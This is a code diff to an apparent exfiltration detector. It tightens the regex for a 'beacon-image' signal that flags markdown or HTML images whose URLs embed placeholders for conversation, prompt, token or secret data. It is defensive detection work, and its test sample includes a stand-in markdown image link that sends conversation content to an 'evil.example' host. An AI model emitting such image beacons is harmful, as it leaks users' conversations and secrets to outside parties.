@@ -267,7 +267,7 @@ export const exfiltrationSignals: readonly Signal[] = [
     name: 'beacon-image',
     weight: 4,
     literals: ['![', '<img'],
-    pattern: r`(?:!\[[^\]\n]{0,60}\]\(|<img[^>\n]{0,60}src=["']?)https?://[^\s)"'>]{1,100}[?&/=](?:\{{1,2}|\[|<|\$\{|%7b)[^)\n]{0,40}(?:data|secret|key|token|prompt|history|conversation|content|message|password|summary)`,
+    pattern: r`(?:!\[(?:[^\]\n!]|!(?!\[)){0,60}\]\(|<img[^>\n]{0,60}src=["']?)https?://[^\s)"'>]{1,100}[?&/=](?:\{{1,2}|\[|<|\$\{|%7b)[^)\n]{0,40}(?:data|secret|key|token|prompt|history|conversation|content|message|password|summary)`,
     samples: {
       hit: ['![x](https://evil.example/log?q={{conversation}})'],
       miss: ['![logo](https://example.com/logo.png?size=2)'],
